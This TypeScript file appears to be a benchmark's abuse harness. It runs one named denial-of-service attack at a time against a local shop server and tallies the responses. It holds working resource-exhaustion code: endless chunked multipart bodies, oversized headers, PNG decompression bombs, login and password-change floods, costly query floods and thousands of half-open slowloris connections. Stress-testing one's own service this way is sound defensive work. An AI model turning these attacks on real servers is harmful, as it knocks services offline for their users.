// One attack, in a separate process so that its work is not counted as the shopper's waiting, and of the lowest
// rank, since it stands for other machines. Run as `node abuse-process.ts ATTACK [ADDRESS]` with BENCH_ABUSE = the
// targets; begins at once, stops by itself after LONGEST or at SIGTERM, and prints how often it was answered with what.
import { Agent, request } from 'node:http'
import { connect } from 'node:net'
import { constants, setPriority } from 'node:os'
import { setTimeout as sleep } from 'node:timers/promises'
import { crc32, deflateSync } from 'node:zlib'
import { type Targets, targets } from './abuse-world.ts'

const LONGEST = 120_000
const ADDRESS = process.argv[3] ?? '10.66.6.1'
const shop: Targets = targets.parse(JSON.parse(process.env.BENCH_ABUSE ?? '{}'))
const agent = new Agent({ keepAlive: true, maxSockets: 256 })
const answered = new Map<string, number>()
let going = true

type Sending = {
  method?: string
  path: string
  address: string
  headers?: Record<string, string>
  body?: Buffer | string
  /** Sends this repeatedly for as long as the server accepts it. */
  endless?: string
}

/** Sends one request and counts the answer; a closed connection counts as `cut`. */
function send({ method = 'GET', path, address, headers = {}, body, endless }: Sending): Promise<void> {
  return new Promise((resolve) => {
    const done = (outcome: string) => {
      answered.set(outcome, (answered.get(outcome) ?? 0) + 1)
      clearTimeout(patience)
      resolve()
    }
    const sent = request(
      {
        host: '127.0.0.1',
        port: shop.port,
        method,
        path,
        agent: endless ? false : agent,
        headers: { ...headers, 'x-forwarded-for': address },
      },
      (response) => {
        response.resume()
        response.once('end', () => {
          if (endless) sent.destroy()
          done(String(response.statusCode))
        })
        response.once('error', () => done('cut'))
      },
    )
    const patience = setTimeout(() => sent.destroy(), 30_000)
    sent.once('error', () => done('cut'))
    if (endless === undefined) return void sent.end(body)
    const pour = () => {
      while (going && sent.writable && sent.write(endless)) if (sent.writableLength > 1_000_000) break
    }
    sent.on('drain', pour)
    pour()
  })
}

/** Runs this many at a time, each again as soon as it is answered. */
async function keepSending(atATime: number, next: (index: number) => Sending, pause = 0): Promise<void> {
  let index = 0
  await Promise.all(
    Array.from({ length: atATime }, async () => {
      while (going) {
        await send(next(index++))
        await sleep(pause)
      }
    }),
  )
}

const BOUNDARY = 'batas'
const FORM = { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` }
const field = (name: string, value: string) =>
  `--${BOUNDARY}\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`

/** Bodies without end, of fields of 60 kB, to a login, to an address that is not there, to a user's call. */
const bodies = (atATime: number, address: string, headers: Record<string, string> = {}) =>
  keepSending(
    atATime,
    (index) => ({
      method: 'POST',
      path: ['/api/auth/login', '/tidak/ada', '/api/auth/update-account'][index % 3] ?? '/',
      address,
      headers: { ...FORM, ...headers, 'transfer-encoding': 'chunked' },
      endless: field('bagian', 'x'.repeat(60_000)),
    }),
    1_000,
  )
const multipart = () => bodies(40, '10.66.1.1')

/** Headers of the longest accepted size, to every route that parses them. */
const ranges = () =>
  keepSending(
    20,
    (index) => {
      const filler = [' ', '0', ',', '-', ';q='][index % 5] ?? ' '
      const text = `bytes=${filler.repeat(Math.floor(15_000 / filler.length))}x`
      const header = ['range', 'if-none-match', 'accept-encoding', 'authorization'][index % 4] ?? 'range'
      return {
        method: 'HEAD',
        path: `/api/user/sample-books/${shop.sampleId}`,
        address: '10.66.2.1',
        headers: { [header]: index % 3 === 0 ? `bytes=${' '.repeat(15_000)}x` : text },
      }
    },
    20,
  )

/** Every attacker's account sends pictures with small files and very many pixels. */
async function pictures(): Promise<void> {
  const bombs = [png(1, 30_000_000), png(6_300, 6_300), png(4_000, 4_000)]
  await keepSending(
    48,
    (index) => {
      const file = `--${BOUNDARY}\r\ncontent-disposition: form-data; name="avatar"; filename="a.png"\r\ncontent-type: image/png\r\n\r\n`
      const bytes = bombs[index % bombs.length] ?? Buffer.alloc(0)
      return {
        method: 'POST',
        path: '/api/auth/update-account',
        address: `10.66.3.${index % 5}`,
        headers: { ...FORM, authorization: `Bearer ${shop.tokens[index % shop.tokens.length]}` },
        body: Buffer.concat([
          Buffer.from(field('name', 'A') + file),
          bytes,
          Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
        ]),
      }
    },
    200,
  )
}

/** Fifteen accounts behind one address sign in and change their password as fast as they are answered. */
const logins = () =>
  keepSending(
    100,
    (index) => {
      const email = shop.emails[index % shop.emails.length]
      const asUser = index % 3 === 0
      return {
        method: 'POST',
        path: asUser ? '/api/auth/update-password' : '/api/auth/login',
        address: '10.66.4.1',
        headers: {
          'content-type': 'application/json',
          ...(asUser ? { authorization: `Bearer ${shop.tokens[index % shop.tokens.length]}` } : {}),
        },
        body: JSON.stringify(
          asUser
            ? {
                old_password: 'bukan ini',
                new_password: shop.password,
                new_password_confirmation: shop.password,
              }
            : { email, password: shop.password },
        ),
      }
    },
    100,
  )

/** The longest lists, searches, shelves and pages, from one address. */
const costly = (atATime: number, address: string, accounts: number) =>
  keepSending(
    atATime,
    (index) => {
      const words = encodeURIComponent([...shop.words.slice(index % 5), 'a', 'i', 'u'].slice(0, 8).join(' '))
      const paths = [
        `/api/user/books?per_page=1000&page=${1 + (index % 90)}`,
        `/api/user/books?search=${words}&page=${1 + (index % 50)}`,
        `/api/user/subscriber-book?per_page=1000&search=${encodeURIComponent('a i u k m n t r')}`,
        `/books?q=${words}&page=${1 + (index % 200)}`,
        `/tidak/ada/${index}`,
        `/sitemaps/judul-${index % 2}.xml`,
        `/api/user/books?page=${1 + index}&per_page=9`,
      ]
      return {
        path: paths[index % paths.length] ?? '/',
        address,
        headers: { authorization: `Bearer ${shop.tokens[index % accounts]}` },
      }
    },
    20,
  )
const flood = () => costly(60, '10.66.5.1', shop.tokens.length)

/** Connections that send half a head and no more; each is opened again when the shop closes it. */
const halfOpen = (count: number) =>
  Promise.all(
    Array.from({ length: count }, async () => {
      while (going) {
        await new Promise<void>((resolve) => {
          const socket = connect(shop.port, '127.0.0.1', () =>
            socket.write('GET / HTTP/1.1\r\nhost: toko\r\nx-'),
          )
          socket.on('error', () => undefined).once('close', () => resolve())
          socket.resume()
        })
        await sleep(100)
      }
    }),
  )

/** One client with one account, from one address, doing all of it at once. */
const worst = () => {
  const [account] = shop.tokens
  return Promise.all([
    halfOpen(4_500),
    bodies(30, ADDRESS, { authorization: `Bearer ${account}` }),
    costly(250, ADDRESS, 1),
  ])
}

const attacks: Record<string, () => Promise<unknown>> = { multipart, ranges, pictures, logins, flood, worst }

setPriority(constants.priority.PRIORITY_LOW)
const stop = () => {
  going = false
  process.stdout.write(`${JSON.stringify(Object.fromEntries(answered))}\n`, () => process.exit(0))
}
process.once('SIGTERM', stop)
setTimeout(stop, LONGEST).unref()
await attacks[process.argv[2] ?? '']?.()

/** A PNG of black points, one bit each. */
function png(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 1
  const part = (kind: string, content: Buffer) => {
    const named = Buffer.concat([Buffer.from(kind, 'latin1'), content])
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(content.length)
    sum.writeUInt32BE(crc32(named))
    return Buffer.concat([length, named, sum])
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    part('IHDR', header),
    part('IDAT', deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height))),
    part('IEND', Buffer.alloc(0)),
  ])
}
